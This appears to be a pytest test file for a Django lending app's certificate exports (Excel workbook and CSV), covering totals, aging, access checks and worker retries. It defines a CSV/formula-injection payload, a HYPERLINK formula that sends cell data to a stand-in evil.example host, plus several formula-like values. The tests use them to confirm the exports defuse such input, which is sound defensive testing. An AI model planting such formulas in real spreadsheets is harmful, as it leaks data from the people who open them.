"""Exports of a certificate's full detail: every row with the engine's reason, totals that tie,
text that no spreadsheet evaluates, and nothing for anyone who may not see the certificate."""

import csv
import datetime as dt
import hashlib
import io
import os
import re
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.utils import timezone

from abl.calc.money import money_text
from abl.models import AuditEvent, Certificate, CertificateExport
from abl.services import exports
from tests.abl.conftest import AGING, post_report
from tests.factories import OrganisationFactory, UserFactory

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
AGING_WITH_HOSTILE_NAMES = AGING + (
    f'EVIL,"{HOSTILE.replace(chr(34), chr(34) * 2)}",+SUM(1),2003-03-20,,"1,000.00",US,N,N\n'
    'ATCO,@cmd,-5,2003-03-20,,"2,000.00",US,N,N\n'
)
INVENTORY = """\
Item #,Description,Warehouse,Category,Program,Qty,Unit Cost,In Transit,Consigned,Obsolete
FG-1,finished,Reno NV,finished_goods,,10,5.00,N,N,N
WIP-1,half made,Reno NV,work_in_process,,10,5.00,N,N,N
"""


@pytest.fixture
def certificate(client, innotrac, cfo, django_capture_on_commit_callbacks):
    client.force_login(cfo)
    post_report(
        client,
        innotrac,
        django_capture_on_commit_callbacks,
        receivables=AGING_WITH_HOSTILE_NAMES,
        inventory=INVENTORY,
    )
    return Certificate.objects.get()


@pytest.fixture
def download(client, django_capture_on_commit_callbacks):
    """The certificate's spreadsheet as the page gets it: asked for, written by the task (run
    on commit, in-process), then downloaded."""

    def workbook(certificate) -> openpyxl.Workbook:
        with django_capture_on_commit_callbacks(execute=True):
            asked = client.post(f"/certificates/{certificate.pk}/export.xlsx/prepare")
        assert asked.status_code == 302
        response = client.get(f"/certificates/{certificate.pk}/export.xlsx")
        assert response.status_code == 200
        assert response.streaming
        assert "attachment" in response["Content-Disposition"]
        body = b"".join(response.streaming_content)
        return openpyxl.load_workbook(io.BytesIO(body))

    return workbook


def _csv(client, certificate, table: str) -> list[list[str]]:
    response = client.get(f"/certificates/{certificate.pk}/export/{table}.csv")
    assert response.status_code == 200
    assert response.streaming
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_the_workbook_has_every_invoice_with_the_engines_reason(client, certificate, download):
    sheet = download(certificate)["Invoices"]
    rows = list(sheet.iter_rows(values_only=True))

    header, invoices = rows[0], rows[1:]
    assert header[:3] == ("Customer ID", "Customer name", "Invoice")
    assert len(invoices) == 9
    acme_old = next(r for r in invoices if r[2] == "AC-2")
    assert acme_old[3] == dt.datetime(2002, 12, 1)
    assert acme_old[5] == 50000
    assert acme_old[6] == 120
    assert acme_old[7] == "91-120"
    assert acme_old[8] == "past due: 120 days from invoice date, over the 90-day limit"
    affiliate = next(r for r in invoices if r[0] == "AFFCO")
    assert affiliate[8] == "affiliate: the whole balance is ineligible"


def test_the_workbooks_totals_tie_to_the_certificate(client, certificate, download):
    workbook = download(certificate)
    figures = certificate.current.figures

    invoices = list(workbook["Invoices"].iter_rows(min_row=2, values_only=True))
    customers = list(workbook["Customers"].iter_rows(values_only=True))
    eligible = customers[0].index("Eligible")

    gross = sum(Decimal(str(r[5])) for r in invoices)
    assert gross == Decimal(figures["gross_receivables"])
    assert sum(Decimal(str(r[eligible])) for r in customers[1:]) == Decimal(
        figures["eligible_receivables"]
    )


def test_the_inventory_sheet_gives_each_row_its_reason(client, certificate, download):
    rows = list(download(certificate)["Inventory"].iter_rows(values_only=True))

    reasons = {r[1]: r[9] for r in rows[1:]}
    assert reasons == {"FG-1": "eligible", "WIP-1": "work_in_process"}


def test_text_that_looks_like_a_formula_comes_back_as_text_from_the_workbook(certificate, download):
    sheet = download(certificate)["Invoices"]

    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}

    assert cells["EVIL"][1].value == HOSTILE
    assert cells["EVIL"][1].data_type == "s"
    assert cells["EVIL"][2].value == "+SUM(1)"
    assert cells["EVIL"][2].data_type == "s"
    assert cells["ATCO"][1].value == "@cmd"
    assert cells["ATCO"][2].value == "-5"
    assert cells["ATCO"][2].data_type == "s"


def test_text_that_looks_like_a_formula_is_defused_in_the_csv(client, certificate):
    rows = _csv(client, certificate, "invoices")

    by_customer = {r[0]: r for r in rows[1:]}
    assert by_customer["EVIL"][1] == "'" + HOSTILE
    assert by_customer["EVIL"][2] == "'+SUM(1)"
    assert by_customer["ATCO"][1:3] == ["'@cmd", "'-5"]
    assert by_customer["CREDITCO"][5] == "-5000.00"  # an amount stays a number
    assert by_customer["ACME"][1] == "Acme Retail"


def test_each_list_downloads_as_csv(client, certificate):
    customers = _csv(client, certificate, "customers")
    inventory = _csv(client, certificate, "inventory")

    assert customers[0][:2] == ["Customer ID", "Customer name"]
    assert sorted(r[0] for r in customers[1:]) == [
        "ACME",
        "AFFCO",
        "ATCO",
        "BELLSOUTH",
        "CREDITCO",
        "EVIL",
        "MAPLE",
    ]
    assert [r[1] for r in inventory[1:]] == ["FG-1", "WIP-1"]


def test_an_unknown_list_or_someone_elses_certificate_is_404(client, certificate):
    assert client.get(f"/certificates/{certificate.pk}/export/payroll.csv").status_code == 404

    other = UserFactory(role="borrower", organisation=OrganisationFactory(kind="borrower"))
    client.force_login(other)
    assert client.get(f"/certificates/{certificate.pk}/export.xlsx").status_code == 404
    assert client.get(f"/certificates/{certificate.pk}/export/invoices.csv").status_code == 404


def _closed_over(callback) -> list[object]:
    """What a queued on-commit callback holds: the task and its arguments."""
    return [cell.cell_contents for cell in callback.__closure__ or ()]


def test_the_spreadsheet_is_asked_for_written_by_a_worker_and_then_downloaded_from_the_page(
    client, certificate, django_capture_on_commit_callbacks
):
    url = f"/certificates/{certificate.pk}"
    page = client.get(f"{url}/").content.decode()
    assert f'action="{url}/export.xlsx/prepare?computation={certificate.current.pk}"' in page
    assert f"{url}/export/invoices.csv?computation=" in page
    assert client.get(f"{url}/export.xlsx").url == f"{url}/#exports"  # nothing to download yet

    with django_capture_on_commit_callbacks() as queued:
        client.post(f"{url}/export.xlsx/prepare")
        client.post(f"{url}/export.xlsx/prepare")  # asked twice: one export, one task
    builds = [c for c in queued if "build_certificate_export" in repr(_closed_over(c))]
    assert len(builds) == 1
    export = CertificateExport.objects.get()
    assert (export.status, export.rows_total) == ("queued", 9 + 7 + 2)
    waiting = client.get(f"{url}/").content.decode()
    assert "waiting for a worker" in waiting
    assert f'hx-get="{url}/export.xlsx/status?computation={export.computation_id}"' in waiting

    builds[0]()  # the worker's turn
    panel = client.get(f"{url}/export.xlsx/status").content.decode()

    assert f'href="{url}/export.xlsx?computation={export.computation_id}"' in panel
    assert "hx-get" not in panel  # done: the page stops asking
    export.refresh_from_db()
    assert (export.status, export.attempts, export.rows_written) == ("ready", 1, 18)
    assert export.stored.name == f"exports/computation-{export.computation_id}.xlsx"
    response = client.get(f"{url}/export.xlsx")
    body = b"".join(response.streaming_content)
    assert hashlib.sha256(body).hexdigest() == export.sha256
    assert [
        e.action
        for e in AuditEvent.objects.filter(action__startswith="certificate.export").order_by("pk")
    ] == [
        "certificate.export_requested",
        "certificate.export_stored",
    ]


def test_a_spreadsheet_built_twice_is_stored_once_with_the_same_bytes(
    client, certificate, download
):
    download(certificate)
    export = CertificateExport.objects.get()
    with export.stored.open("rb") as stored:
        first = stored.read()
    # As a worker killed after storing and before saying so leaves it: built again.
    CertificateExport.objects.filter(pk=export.pk).update(status="queued")

    assert exports.build_certificate_export(export_id=export.pk).value == "done"

    export.refresh_from_db()
    assert export.attempts == 2
    assert os.listdir(Path(settings.MEDIA_ROOT) / "exports") == [Path(export.stored.name).name]
    with export.stored.open("rb") as stored:
        assert stored.read() == first
    assert hashlib.sha256(first).hexdigest() == export.sha256


def test_a_spreadsheet_that_cannot_be_written_says_so_and_can_be_asked_for_again(
    client, certificate, django_capture_on_commit_callbacks, monkeypatch
):
    url = f"/certificates/{certificate.pk}"

    def broken(*args, **kwargs):
        raise OSError("disk full")

    monkeypatch.setattr("abl.exports.write_xlsx", broken)  # the outside world failing
    with django_capture_on_commit_callbacks(execute=True):
        client.post(f"{url}/export.xlsx/prepare")
    page = client.get(f"{url}/").content.decode()
    assert "The spreadsheet could not be written (an error on our side; it is logged)." in page
    assert CertificateExport.objects.get().status == "failed"

    monkeypatch.undo()
    with django_capture_on_commit_callbacks(execute=True):
        client.post(f"{url}/export.xlsx/prepare")

    assert CertificateExport.objects.get().status == "ready"
    response = client.get(f"{url}/export.xlsx")
    assert response.status_code == 200
    assert b"".join(response.streaming_content).startswith(b"PK")  # read, so the file is closed


def test_a_spreadsheet_whose_file_is_lost_from_storage_is_asked_for_and_written_again(
    client, certificate, download, django_capture_on_commit_callbacks
):
    url = f"/certificates/{certificate.pk}"
    download(certificate)
    export = CertificateExport.objects.get()
    export.stored.storage.delete(export.stored.name)

    assert client.get(f"{url}/export.xlsx").url == f"{url}/#exports"
    assert "stored file is missing; ask for it again" in client.get(f"{url}/").content.decode()
    assert download(certificate).sheetnames[0] == "Summary"
    assert CertificateExport.objects.get().attempts == 1  # afresh


def test_the_spreadsheet_is_asked_for_by_post_only_and_only_by_who_sees_the_certificate(
    client, certificate
):
    url = f"/certificates/{certificate.pk}"
    assert client.get(f"{url}/export.xlsx/prepare").status_code == 405

    client.force_login(UserFactory(role="borrower", organisation=OrganisationFactory()))
    assert client.post(f"{url}/export.xlsx/prepare").status_code == 404
    assert client.get(f"{url}/export.xlsx/status").status_code == 404
    assert not CertificateExport.objects.exists()


def _page_lines(page: str) -> list[tuple[str, str]]:
    """The certificate page's figures: each row's label and figure as the page shows them."""
    table = page.split('data-testid="figures"', 1)[1].split("</table>", 1)[0]
    rows = []
    for row in re.findall(r"<tr.*?</tr>", table, flags=re.S):
        cells = [
            " ".join(re.sub(r"<[^>]+>", " ", c).split())
            for c in re.findall(r"<t[dh][^>]*>(.*?)</t[dh]>", row, flags=re.S)
        ]
        rows.append((cells[0].removesuffix(" · every row"), cells[1] if len(cells) > 1 else ""))
    return rows


def _shown(cell) -> str:
    """A Summary figure as the page writes it, from the number and its number format."""
    if cell.value is None:
        return ""
    if cell.data_type == "s":
        return cell.value
    value = Decimal(str(cell.value))
    if cell.number_format == "0.00%":
        return f"{value * 100:.2f}%"
    assert cell.number_format == "#,##0.00"
    return money_text(value)


def test_the_workbook_opens_on_a_summary_of_the_certificates_lines_as_its_page_shows_them(
    client, certificate, download
):
    page = client.get(f"/certificates/{certificate.pk}/").content.decode()

    workbook = download(certificate)

    assert workbook.sheetnames == ["Summary", "Invoices", "Customers", "Inventory"]
    sheet = workbook["Summary"]
    first = next(r for r in range(1, 20) if sheet.cell(r, 1).value == "Receivables")
    lines = []
    for r in range(first, first + len(_page_lines(page))):
        label, note = sheet.cell(r, 1).value.strip(), sheet.cell(r, 3).value
        lines.append((f"{label} {note}" if note else label, _shown(sheet.cell(r, 2))))
    assert lines == _page_lines(page)
    assert len(lines) > 20


def test_the_summarys_money_is_a_number_with_a_number_format_not_text(certificate, download):
    sheet = download(certificate)["Summary"]

    gross = next(row for row in sheet.iter_rows() if row[0].value == "Gross receivables")

    assert gross[1].data_type == "n"
    assert gross[1].number_format == "#,##0.00"
    assert Decimal(str(gross[1].value)) == Decimal("1248000.00")


def test_the_summary_ages_the_receivables_by_days_past_invoice_date_as_of_the_certificate(
    certificate, download
):
    rows = list(download(certificate)["Summary"].iter_rows(values_only=True))

    start = next(i for i, r in enumerate(rows) if str(r[0]).startswith("Aging of gross"))
    assert rows[start][:2] == ("Aging of gross receivables (Days past invoice date)", "Receivables")
    aging = {r[0]: Decimal(str(r[1])) for r in rows[start + 1 : start + 7]}
    assert aging == {
        "0-30": Decimal("798000"),  # credits count where they are dated
        "31-60": Decimal("400000"),
        "61-90": Decimal("0"),
        "91-120": Decimal("50000"),  # AC-2, 120 days
        "over_120": Decimal("0"),
        "Gross receivables": Decimal("1248000"),
    }


def test_each_invoice_row_names_its_aging_bucket(certificate, download):
    rows = list(download(certificate)["Invoices"].iter_rows(values_only=True))

    assert rows[0][6:9] == ("Days", "Aging bucket", "Reason")
    buckets = {r[2]: (r[6], r[7]) for r in rows[1:]}
    assert buckets["BS-1"] == (21, "0-30")
    assert buckets["AC-1"] == (30, "0-30")
    assert buckets["BS-2"] == (44, "31-60")
    assert buckets["AC-2"] == (120, "91-120")


def test_the_sweep_finishes_a_stale_spreadsheet_and_fails_one_interrupted_too_often(
    client, certificate, django_capture_on_commit_callbacks, settings
):
    with django_capture_on_commit_callbacks():  # asked for; the task is lost
        client.post(f"/certificates/{certificate.pk}/export.xlsx/prepare")
    export = CertificateExport.objects.get()
    an_hour_ago = timezone.now() - dt.timedelta(hours=1)
    CertificateExport.objects.filter(pk=export.pk).update(
        status="building", attempts=1, heartbeat_at=an_hour_ago
    )

    assert exports.sweep_stuck_exports() == ([export.pk], [])  # queued again; runs here
    assert CertificateExport.objects.get().status == "ready"

    CertificateExport.objects.filter(pk=export.pk).update(
        status="building", attempts=settings.ABL_FILE_MAX_ATTEMPTS, heartbeat_at=an_hour_ago
    )
    assert exports.sweep_stuck_exports() == ([], [export.pk])
    export.refresh_from_db()
    assert export.status == "failed"
    assert export.problem == (
        "Writing the spreadsheet was interrupted 3 times (the worker stopped). Ask again."
    )
